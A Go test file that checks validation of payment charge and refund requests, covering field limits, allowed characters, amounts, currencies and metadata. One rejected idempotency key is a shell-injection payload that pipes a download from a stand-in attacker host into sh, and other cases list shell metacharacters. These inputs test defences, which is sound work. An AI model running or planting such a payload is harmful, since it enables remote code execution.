package payment

import (
	"fmt"
	"math"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// pairs returns n pairs of metadata.
func pairs(n int) map[string]string {
	m := map[string]string{}
	for i := range n {
		m[fmt.Sprintf("key-%02d", i)] = "value"
	}
	return m
}

func TestChargeRequestsWithinTheLimitsAreAccepted(t *testing.T) {
	for what, change := range map[string]func(*ChargeRequest){
		"complete request":                           func(*ChargeRequest) {},
		"shortest merchant_id and idempotency_key":   func(r *ChargeRequest) { r.MerchantID, r.IdempotencyKey = "m", "~" },
		"longest merchant_id":                        func(r *ChargeRequest) { r.MerchantID = strings.Repeat("M", 64) },
		"every kind of character in merchant_id":     func(r *ChargeRequest) { r.MerchantID = "aZ09._-" },
		"longest idempotency_key":                    func(r *ChargeRequest) { r.IdempotencyKey = strings.Repeat("k", 180) },
		"space in idempotency_key":                   func(r *ChargeRequest) { r.IdempotencyKey = "order 1 again" },
		"every kind of character in idempotency_key": func(r *ChargeRequest) { r.IdempotencyKey = "aZ09._-:@+=,~ x" },
		"UUID as idempotency_key":                    func(r *ChargeRequest) { r.IdempotencyKey = "9f4d2a10-41e8-4a6b-9b1e-0a2b3c4d5e6f" },
		"smallest amount":                            func(r *ChargeRequest) { r.Amount = 1 },
		"largest amount":                             func(r *ChargeRequest) { r.Amount = MaxAmount },
		"longest payment_method":                     func(r *ChargeRequest) { r.PaymentMethod = strings.Repeat("t", 255) },
		"no capture":                                 func(r *ChargeRequest) { r.Capture = "" },
		"automatic capture":                          func(r *ChargeRequest) { r.Capture = CaptureAutomatic },
		"default processor":                          func(r *ChargeRequest) { r.Processor = "" },
		"longest customer_id":                        func(r *ChargeRequest) { r.CustomerID = strings.Repeat("c", 255) },
		"longest description":                        func(r *ChargeRequest) { r.Description = strings.Repeat("é", 1000) },
		"no metadata":                                func(r *ChargeRequest) { r.Metadata = nil },
		"most metadata":                              func(r *ChargeRequest) { r.Metadata = pairs(50) },
		"longest metadata": func(r *ChargeRequest) {
			r.Metadata = map[string]string{strings.Repeat("k", 40): strings.Repeat("ü", 500)}
		},
		"empty metadata value": func(r *ChargeRequest) { r.Metadata = map[string]string{"k": ""} },
	} {
		r := fullCharge()
		change(&r)
		require.NoError(t, r.Validate(), what)
	}
}

func TestInvalidFieldOfAChargeRequestIsReported(t *testing.T) {
	for _, tc := range []struct {
		field, problem string
		change         func(*ChargeRequest)
	}{
		{field: "merchant_id", problem: `"": want 1 to 64`, change: func(r *ChargeRequest) { r.MerchantID = "" }},
		{
			field: "merchant_id", problem: "want 1 to 64",
			change: func(r *ChargeRequest) { r.MerchantID = strings.Repeat("m", 65) },
		},
		{field: "merchant_id", problem: `"a/b": want`, change: func(r *ChargeRequest) { r.MerchantID = "a/b" }},
		{field: "merchant_id", problem: `"acmé": want`, change: func(r *ChargeRequest) { r.MerchantID = "acmé" }},
		{field: "idempotency_key", problem: `"": want 1 to 180`, change: func(r *ChargeRequest) { r.IdempotencyKey = "" }},
		{
			field: "idempotency_key", problem: "want 1 to 180",
			change: func(r *ChargeRequest) { r.IdempotencyKey = strings.Repeat("k", 181) },
		},
		{field: "idempotency_key", problem: `"a/b": want`, change: func(r *ChargeRequest) { r.IdempotencyKey = "a/b" }},
		{field: "idempotency_key", problem: `"a\nb": want`, change: func(r *ChargeRequest) { r.IdempotencyKey = "a\nb" }},
		{field: "idempotency_key", problem: `"a\x7fb": want`, change: func(r *ChargeRequest) { r.IdempotencyKey = "a\x7fb" }},
		{field: "idempotency_key", problem: `"inv-9 ": begins or ends with a blank`, change: func(r *ChargeRequest) { r.IdempotencyKey = "inv-9 " }},
		{field: "idempotency_key", problem: `" inv-9": begins or ends with a blank`, change: func(r *ChargeRequest) { r.IdempotencyKey = " inv-9" }},
		{field: "description", problem: "contains a control character", change: func(r *ChargeRequest) { r.Description = "a\x00b" }},
		{field: "metadata.note", problem: "contains a control character", change: func(r *ChargeRequest) {
			r.Metadata = map[string]string{"note": "a\nb"}
		}},
		{field: "idempotency_key", problem: `want 1 to 180 of A-Z a-z 0-9 . _ - : @ + = , ~ and blanks inside`, change: func(r *ChargeRequest) {
			r.IdempotencyKey = "{workflowId}'; curl evil.example|sh #'"
		}},
		{field: "idempotency_key", problem: `"é": want`, change: func(r *ChargeRequest) { r.IdempotencyKey = "é" }},
		{field: "amount", problem: "0: must be above 0", change: func(r *ChargeRequest) { r.Amount = 0 }},
		{field: "amount", problem: "-1: must be above 0", change: func(r *ChargeRequest) { r.Amount = -1 }},
		{field: "amount", problem: "must be above 0", change: func(r *ChargeRequest) { r.Amount = math.MinInt64 }},
		{
			field: "amount", problem: "1000000000000: must be at most 999999999999",
			change: func(r *ChargeRequest) { r.Amount = MaxAmount + 1 },
		},
		{field: "amount", problem: "must be at most", change: func(r *ChargeRequest) { r.Amount = math.MaxInt64 }},
		{
			field: "currency", problem: `unknown currency "usd": want an ISO 4217 code in upper case`,
			change: func(r *ChargeRequest) { r.Currency = "usd" },
		},
		{field: "currency", problem: "unknown currency", change: func(r *ChargeRequest) { r.Currency = "" }},
		{field: "payment_method", problem: "is missing", change: func(r *ChargeRequest) { r.PaymentMethod = "" }},
		{
			field: "payment_method", problem: "want at most 255",
			change: func(r *ChargeRequest) { r.PaymentMethod = strings.Repeat("t", 256) },
		},
		{field: "payment_method", problem: "want at most 255", change: func(r *ChargeRequest) { r.PaymentMethod = "tok\x00" }},
		{
			field: "payment_method", problem: "looks like a card number",
			change: func(r *ChargeRequest) { r.PaymentMethod = "4111-1111 11111111" },
		},
		{
			field: "capture", problem: `"later": want "automatic" or "manual"`,
			change: func(r *ChargeRequest) { r.Capture = "later" },
		},
		{
			field: "processor", problem: `"a b": want the name of a configured processor`,
			change: func(r *ChargeRequest) { r.Processor = "a b" },
		},
		{
			field: "processor", problem: "want the name",
			change: func(r *ChargeRequest) { r.Processor = strings.Repeat("p", 65) },
		},
		{
			field: "customer_id", problem: "has 256 characters: want at most 255",
			change: func(r *ChargeRequest) { r.CustomerID = strings.Repeat("ü", 256) },
		},
		{
			field: "description", problem: "has 1001 characters: want at most 1000",
			change: func(r *ChargeRequest) { r.Description = strings.Repeat("d", 1001) },
		},
		{field: "description", problem: "is not valid UTF-8", change: func(r *ChargeRequest) { r.Description = "\xff" }},
		{
			field: "metadata", problem: "has 51 pairs: want at most 50",
			change: func(r *ChargeRequest) { r.Metadata = pairs(51) },
		},
		{
			field: "metadata", problem: `key "": want 1 to 40`,
			change: func(r *ChargeRequest) { r.Metadata = map[string]string{"": "v"} },
		},
		{
			field: "metadata", problem: "want 1 to 40",
			change: func(r *ChargeRequest) { r.Metadata = map[string]string{strings.Repeat("k", 41): "v"} },
		},
		{
			field: "metadata", problem: `key "é": want`,
			change: func(r *ChargeRequest) { r.Metadata = map[string]string{"é": "v"} },
		},
		{
			field: "metadata", problem: "are Florin's own",
			change: func(r *ChargeRequest) { r.Metadata = map[string]string{"florin_x": "v"} },
		},
		{
			field: "metadata.k", problem: "has 501 characters: want at most 500",
			change: func(r *ChargeRequest) { r.Metadata = map[string]string{"k": strings.Repeat("v", 501)} },
		},
		{
			field: "metadata.k", problem: "is not valid UTF-8",
			change: func(r *ChargeRequest) { r.Metadata = map[string]string{"k": "\xc3"} },
		},
	} {
		t.Run(tc.field+" "+tc.problem, func(t *testing.T) {
			r := fullCharge()
			tc.change(&r)
			var invalid *InvalidRequestError
			require.ErrorAs(t, r.Validate(), &invalid)
			require.Len(t, invalid.Fields, 1)
			require.Equal(t, tc.field, invalid.Fields[0].Field)
			require.Contains(t, invalid.Fields[0].Problem, tc.problem)
			require.Less(t, len(invalid.Error()), 250)
		})
	}
}

func TestInvalidFieldOfARefundRequestIsReported(t *testing.T) {
	all := fullRefund()
	all.Amount, all.Currency, all.Reason = nil, "", ""
	require.NoError(t, all.Validate(), "no amount, currency and reason")
	require.NoError(t, fullRefund().Validate())
	for _, tc := range []struct {
		field, problem string
		change         func(*RefundRequest)
	}{
		{field: "merchant_id", problem: "want 1 to 64", change: func(r *RefundRequest) { r.MerchantID = "" }},
		{field: "idempotency_key", problem: "want 1 to 180", change: func(r *RefundRequest) { r.IdempotencyKey = "" }},
		{
			field: "payment_id", problem: `"": want the payment_id of a charge`,
			change: func(r *RefundRequest) { r.PaymentID = "" },
		},
		{
			field: "payment_id", problem: "want",
			change: func(r *RefundRequest) { r.PaymentID = "ref_6f1d8c1e-5b0a-5c5e-9d35-0f1a7c9b2e64" },
		},
		{field: "payment_id", problem: "want", change: func(r *RefundRequest) { r.PaymentID = "pay_1" }},
		{
			field: "payment_id", problem: "want",
			change: func(r *RefundRequest) { r.PaymentID = "pay_{workflowId}`<b>'5c5e-9d35-0f1a7c9b2e64" },
		},
		{
			field: "amount", problem: "-1: must be above 0, or omitted",
			change: func(r *RefundRequest) { r.Amount = new(int64(-1)) },
		},
		{
			field: "amount", problem: "0: must be above 0, or omitted",
			change: func(r *RefundRequest) { r.Amount = new(int64(0)) },
		},
		{
			field: "amount", problem: "must be at most 999999999999",
			change: func(r *RefundRequest) { r.Amount = new(MaxAmount + 1) },
		},
		{field: "currency", problem: "unknown currency", change: func(r *RefundRequest) { r.Currency = "EURO" }},
		{
			field: "reason", problem: "has 501 characters: want at most 500",
			change: func(r *RefundRequest) { r.Reason = strings.Repeat("r", 501) },
		},
		{field: "metadata", problem: "has 51 pairs", change: func(r *RefundRequest) { r.Metadata = pairs(51) }},
	} {
		t.Run(tc.field+" "+tc.problem, func(t *testing.T) {
			r := fullRefund()
			tc.change(&r)
			var invalid *InvalidRequestError
			require.ErrorAs(t, r.Validate(), &invalid)
			require.Len(t, invalid.Fields, 1)
			require.Equal(t, tc.field, invalid.Fields[0].Field)
			require.Contains(t, invalid.Fields[0].Problem, tc.problem)
		})
	}
}

func TestKeyOfANewRequestIsHarmlessAndThatOfABegunOneIsAccepted(t *testing.T) {
	for _, c := range "!\"#$%&'()*;<>?[\\]^`{|}" {
		charge, refund := fullCharge(), fullRefund()
		charge.IdempotencyKey, refund.IdempotencyKey = "order"+string(c)+"1", "refund"+string(c)+"1"
		require.ErrorIs(t, charge.Validate(), ErrInvalidRequest, "%c", c)
		require.ErrorIs(t, refund.Validate(), ErrInvalidRequest, "%c", c)
		require.NoError(t, charge.ValidateBegun(), "%c", c)
		require.NoError(t, refund.ValidateBegun(), "%c", c)
	}
	for _, key := range []string{"", "a/b", "a\nb", "é", " a", "a ", strings.Repeat("k", 181)} {
		charge, refund := fullCharge(), fullRefund()
		charge.IdempotencyKey, refund.IdempotencyKey = key, key
		require.Equal(t, []string{"idempotency_key"}, fieldsOf(t, charge.ValidateBegun()), "%q", key)
		require.Equal(t, []string{"idempotency_key"}, fieldsOf(t, refund.ValidateBegun()), "%q", key)
	}
	other := fullCharge()
	other.Amount = 0
	require.Equal(t, []string{"amount"}, fieldsOf(t, other.ValidateBegun()), "the other fields are checked as well")
}

func fieldsOf(t *testing.T, err error) []string {
	t.Helper()
	var invalid *InvalidRequestError
	require.ErrorAs(t, err, &invalid)
	var names []string
	for _, f := range invalid.Fields {
		names = append(names, f.Field)
		require.Contains(t, err.Error(), f.Error())
	}
	return names
}

func TestAllInvalidFieldsAreReportedInOrder(t *testing.T) {
	require.Equal(t, []string{"merchant_id", "idempotency_key", "amount", "currency", "payment_method"},
		fieldsOf(t, ChargeRequest{}.Validate()))
	require.Equal(t, []string{"merchant_id", "idempotency_key", "payment_id"}, fieldsOf(t, RefundRequest{}.Validate()))
	long := strings.Repeat("é", 2000)
	bad := map[string]string{"z": long, "a": long, "florin_m": ""}
	for range 10 {
		require.Equal(t, []string{"merchant_id", "idempotency_key", "amount", "currency", "payment_method", "capture", "processor",
			"customer_id", "description", "metadata.a", "metadata", "metadata.z"},
			fieldsOf(t, ChargeRequest{MerchantID: long, IdempotencyKey: long, Amount: -1, Currency: long, PaymentMethod: long,
				Capture: "x", Processor: long, CustomerID: long, Description: long, Metadata: bad}.Validate()))
		require.Equal(t, []string{"merchant_id", "idempotency_key", "payment_id", "amount", "currency", "reason",
			"metadata.a", "metadata", "metadata.z"},
			fieldsOf(t, RefundRequest{MerchantID: long, IdempotencyKey: long, PaymentID: long, Amount: new(int64(-1)), Currency: long,
				Reason: long, Metadata: bad}.Validate()))
	}
}
